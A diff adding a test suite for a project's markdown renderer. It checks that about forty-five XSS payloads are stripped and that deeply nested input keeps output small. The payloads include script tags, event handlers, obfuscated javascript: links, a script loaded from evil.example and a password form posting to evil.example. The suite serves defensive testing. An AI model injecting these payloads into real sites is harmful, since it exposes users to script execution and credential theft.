@@ -1,0 +1,133 @@
+import { describe, expect, test } from 'vitest'
+import { plainText, renderMarkdown } from '#lib/project/markdown.ts'
+
+/** Everything a browser could act on: the tags and attributes of what was rendered. */
+function parts(html: string) {
+  const tags = [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*>/gi)]
+  return {
+    tags: [...new Set(tags.map(([, name]) => name))],
+    attributes: tags.flatMap(([, , all]) =>
+      [...(all ?? '').matchAll(/([a-z-]+)="([^"]*)"/gi)].map(
+        ([, name, value]) => `${name}=${value}`,
+      ),
+    ),
+  }
+}
+
+const HOSTILE: [what: string, markdown: string][] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['a script within a word', 'a<script src=//evil.example/x.js></script>b'],
+  ['a script in two halves', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['an event handler', '<p onclick="alert(1)">hi</p>'],
+  ['an image with onerror', '<img src=x onerror=alert(1)>'],
+  ['an image from elsewhere', '![spy](https://evil.example/pixel.png)'],
+  ['an image that runs', '![x](javascript:alert(1))'],
+  ['a quote that leaves the alt', '![x" onerror="alert(1)](https://evil.example/a.png)'],
+  ['a javascript: link', '[x](javascript:alert(1))'],
+  ['one in capitals', '[x](JaVaScRiPt:alert(1))'],
+  ['one with an entity', '[x](javascript&#58;alert(1))'],
+  ['one with entities throughout', '[x](&#106;&#97;&#118;&#97;script:alert(1))'],
+  ['one with a tab entity', '[x](java&Tab;script:alert(1))'],
+  ['one with a newline entity', '[x](java&NewLine;script:alert(1))'],
+  ['one with a leading control character', '[x](&#1;javascript:alert(1))'],
+  ['one in angle brackets', '[x](<javascript:alert(1)>)'],
+  ['one with spaces before', '[x](<   javascript:alert(1)>)'],
+  ['one as an autolink', '<javascript:alert(1)>'],
+  ['one by reference', '[x][y]\n\n[y]: javascript:alert(1)'],
+  ['a vbscript: link', '[x](vbscript:msgbox(1))'],
+  ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+  ['a file: link', '[x](file:///etc/passwd)'],
+  ['a blob: link', '[x](blob:https://evil.example/1)'],
+  ['a link without a scheme', '[x](//evil.example)'],
+  ['a link into the site', '[x](/api/v1/auth/log_out)'],
+  ['a link with backslashes', '[x](\\\\evil.example)'],
+  ['a title that leaves its quotes', '[x](https://a.example \'" onmouseover="alert(1)\')'],
+  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
+  ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>">'],
+  ['a style sheet', '<style>body{display:none}</style>'],
+  ['a style attribute', '<p style="position:fixed;inset:0">x</p>'],
+  ['an svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
+  ['math', '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>'],
+  ['a comment', '<!-- <script>alert(1)</script> -->'],
+  ['a comment that ends twice', '<!--><img src=x onerror=alert(1)>-->'],
+  ['a form', '<form action="https://evil.example"><input name="password"></form>'],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['an object', '<object data="x"></object><embed src="x">'],
+  ['an id that hides a global', '<a id="location" name="cookie">x</a>'],
+  ['a language that is an attribute', '```"><img/src=x/onerror=alert(1)>\nx\n```'],
+  [
+    'all of it within a list in a quote',
+    '> - 1. <b>**[x](javascript:alert(1))**<script>x</script></b>',
+  ],
+  [
+    'all of it within a table',
+    '| <img src=x onerror=alert(1)> |\n| --- |\n| [x](data:text/html,x) |',
+  ],
+  ['a foot note with an id', 'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: <script>x</script>'],
+]
+
+const TAGS = ['p', 'a', 'strong', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code']
+const TABLE_TAGS = ['table', 'thead', 'tbody', 'tr', 'th', 'td']
+
+describe('a hostile description', () => {
+  test.each(HOSTILE)('loses %s', (_, markdown) => {
+    const html = renderMarkdown(markdown)
+    const { tags, attributes } = parts(html)
+    expect([...TAGS, ...TABLE_TAGS]).toEqual(expect.arrayContaining(tags))
+    // Nothing that looks like a tag is left that `parts` did not read.
+    expect(html.replaceAll(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+="[^"]*")*>/gi, '')).not.toContain('<')
+    for (const attribute of attributes) {
+      expect(attribute).toMatch(/^(href=https:\/\/a\.example\/$|rel=nofollow ugc noopener$)/)
+    }
+  })
+})
+
+describe('a description', () => {
+  test('keeps links to the web and to mail, and passes nothing on to them', () => {
+    expect(renderMarkdown('[a](https://a.example/b?c=1&d=2) <b@c.example>')).toBe(
+      '<p><a href="https://a.example/b?c=1&#x26;d=2" rel="nofollow ugc noopener">a</a> ' +
+        '<a href="mailto:b@c.example" rel="nofollow ugc noopener">b@c.example</a></p>',
+    )
+  })
+
+  test('writes an address as the browser that was asked about it reads it', () => {
+    expect(renderMarkdown('[a](<http:a.example/x y>)')).toContain('href="http://a.example/x%20y"')
+  })
+
+  test('starts its headings at h3 and skips no level', () => {
+    const html = renderMarkdown('# one\n\n#### deep\n\n## two\n\n# three\n\n###### far')
+    expect(html.match(/<h\d>\w+/g)).toEqual([
+      ...['<h3>one', '<h4>deep', '<h4>two', '<h3>three', '<h4>far'],
+    ])
+  })
+
+  test('has tables, strikethrough, code and lists', () => {
+    const html = renderMarkdown('| a |\n| -: |\n| 1 |\n\n~~no~~ `code`\n\n3. three')
+    expect(html).toContain('<th align="right">a</th>')
+    expect(html).toContain('<del>no</del> <code>code</code>')
+    expect(html).toContain('<ol start="3">')
+  })
+
+  test('is read up to 8192 characters', () => {
+    expect(plainText(`${'a '.repeat(4095)}bc${'d'.repeat(100)}`)).toMatch(/ bc$/)
+  })
+
+  test.each([
+    ['quotes', '> '.repeat(4096)],
+    ['lists', '- '.repeat(4000) + 'x'],
+    ['brackets', '['.repeat(8192)],
+    ['emphasis', '*a **b '.repeat(580) + 'c** d* '.repeat(580)],
+    ['a wide table', `|${'a|'.repeat(1000)}\n|${'-|'.repeat(1000)}\n${'x\n'.repeat(2000)}`],
+  ])('stays small whatever %s it nests', (_, markdown) => {
+    expect(renderMarkdown(markdown).length).toBeLessThan(200_000)
+  })
+})
+
+describe('the running text of a description', () => {
+  test('has no marks and parts its blocks', () => {
+    expect(plainText('# A\n**b**old [l](https://a.example)\n\n- x\n- y\n\n<i>z</i>')).toBe(
+      'A bold l x y z',
+    )
+  })
+})
